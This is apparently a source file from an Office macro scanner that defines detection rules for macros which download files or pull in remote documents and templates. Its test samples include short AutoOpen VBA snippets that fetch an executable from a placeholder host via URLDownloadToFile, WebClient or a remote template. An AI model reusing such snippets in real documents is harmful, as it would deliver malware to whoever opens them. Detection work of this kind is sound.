/** Files that macros fetch, and documents of others that they open. */
import type { MacroCall } from '../understanding';
import { argument } from './technique';
import type { Strength, Technique } from './technique';
import { carriesMacros, endsUnknown, isInDropFolder, isInStartup, isShown, isWeb, isWebDav, runs } from './places';

const REQUESTS = [/^msxml2\.(?:server)?xmlhttp/, /^winhttp\.winhttprequest/, /^microsoft\.xmlhttp/];

export const downloading: readonly Technique[] = [
  {
    id: 'native-download',
    does: 'fetches',
    calls: ['urldownloadtofile', 'urldownloadtocachefile', 'urlopenpullstream', 'urlopenblockingstream'],
    on: 'library',
    matters: ({ arguments: values, name }) => [name === 'urldownloadtofile' ? values[2] : undefined],
    shows: ({ arguments: values }) => [values[1]],
    strength: (target, call) => {
      if (call.name !== 'urldownloadtofile') return 0.5;
      return runs(target) || isInStartup(target)
        ? 1
        : isShown(target) && !/\.(?:zip|dat|bak|tmp)["\s]*$/.test(target)
          ? 0
          : endsUnknown(target) || isInDropFolder(target)
            ? 1
            : 0.5;
    },
    attack: ['T1105'],
    fires: [
      'Private Declare PtrSafe Function Bring Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\nSub AutoOpen()\nBring 0, "http://files.invalid/a", "C:\\nowhere\\notreal.exe", 0, 0\nEnd Sub',
    ],
    silent: [
      'Private Declare PtrSafe Function Bring Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\nSub AutoOpen()\nBring 0, "https://rates.example/eur.csv", ThisWorkbook.Path & "\\eur.csv", 0, 0\nEnd Sub',
    ],
  },
  {
    id: 'native-request',
    does: 'fetches',
    calls: [
      'internetopenurl',
      'httpopenrequest',
      'httpsendrequest',
      'winhttpopenrequest',
      'winhttpsendrequest',
      'ftpgetfile',
      'internetreadfile',
      'internetconnect',
    ],
    on: 'library',
    matters: ({ arguments: values }) => values.slice(1, 3),
    strength: (_, __, { writesPrograms }) => (writesPrograms ? 1 : 0.5),
    attack: ['T1105'],
    fires: [
      'Private Declare PtrSafe Function Go Lib "wininet" Alias "InternetOpenUrlA" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long, ByVal f As LongPtr) As LongPtr\nSub AutoOpen()\nx = Go(0, "http://files.invalid/a", "", 0, 0, 0)\nEnd Sub',
    ],
    silent: [
      'Private Declare PtrSafe Function State Lib "wininet" Alias "InternetGetConnectedState" (ByRef a As Long, ByVal b As Long) As Long\nSub AutoOpen()\nx = State(y, 0)\nEnd Sub',
    ],
  },
  {
    id: 'web-request',
    does: 'fetches',
    calls: ['open'],
    on: REQUESTS,
    matters: argument(1, 'bstrurl', 'url'),
    // By itself a rate of exchange, a version number; what is done with the answer accuses.
    strength: () => 0,
    attack: ['T1105'],
    fires: [],
    silent: [
      'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://rates.example/eur", False\nh.Send\nRange("A1") = h.responseText',
    ],
  },
  {
    id: 'client-download',
    does: 'fetches',
    calls: ['downloadfile', 'downloaddata'],
    on: 'anything',
    matters: argument(1),
    shows: ({ arguments: values }) => [values[0]],
    strength: (target) => (isShown(target) ? 0 : 1),
    attack: ['T1105'],
    fires: ['CreateObject("System.Net.WebClient").DownloadFile "http://files.invalid/a", "C:\\nowhere\\notreal.exe"'],
    silent: ['CreateObject("System.Net.WebClient").DownloadFile "https://rates.example/eur", "C:\\Data\\eur.csv"'],
  },
  {
    id: 'remote-document',
    does: 'fetches',
    calls: [
      'open',
      'openxml',
      'opentext',
      'add',
      'opencurrentdatabase',
      'opendatabase',
      'addfromfile',
      'insertfile',
      'attachedtemplate',
      'run',
      'loadpicture',
    ],
    on: [
      'workbooks',
      'documents',
      'presentations',
      'templates',
      'addins',
      'application',
      'document',
      'access.application',
      '',
      /(?:excel|word|powerpoint)\.application(?:\/|$)/,
    ],
    matters: argument(0, 'filename', 'name', 'template', 'filepath'),
    strength: strengthOfRemote,
    attack: ['T1221', 'T1105'],
    fires: [
      'Workbooks.Open "\\\\files.invalid@80\\DavWWWRoot\\x.xlsm"',
      'Documents.Open "http://files.invalid/a.dotm"',
      'Set a = CreateObject("Access.Application")\na.OpenCurrentDatabase "\\\\files.invalid@80\\x\\a.accdb"',
    ],
    silent: [
      'Workbooks.Open "\\\\server\\share\\master.xlsm"',
      'Workbooks.Open "https://rates.example/rates.csv"',
      'Workbooks.Open "https://firm.sharepoint.com/sites/t/master.xlsm"',
      'Documents.Open ThisWorkbook.Path & "\\letter.docx"',
      'Workbooks.Add',
    ],
  },
  {
    id: 'remote-template',
    does: 'fetches',
    calls: ['attachedtemplate'],
    kind: 'write',
    on: 'anything',
    matters: ({ arguments: values }) => values.slice(-1),
    strength: (path) => (isWeb(path) ? 1 : runs(path) ? 1 : 0),
    attack: ['T1221'],
    fires: ['ActiveDocument.AttachedTemplate = "http://files.invalid/a.dotm"'],
    silent: [
      'ActiveDocument.AttachedTemplate = "C:\\Templates\\letter.dotm"',
      'ActiveDocument.AttachedTemplate = NormalTemplate',
    ],
  },
];

/** A document that brings macros of its own from a web server: Office asks no second time. */
function strengthOfRemote(path: string, call: MacroCall): Strength {
  if (isWebDav(path)) return 1;
  if (!isWeb(path)) return 0;
  if (/^"?https:\/\/[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){0,3}\.?(?:sharepoint|onedrive|office)\.com\//.test(path))
    return 0;
  if (call.name === 'run' || runs(path)) return 1;
  if (carriesMacros(path)) return 1;
  // A page for Word is a document whose kind its server tells; workbooks read tables from such addresses.
  return call.object?.kind === 'object' && /documents$/.test(call.object.className) && !isShown(path) ? 0.5 : 0;
}
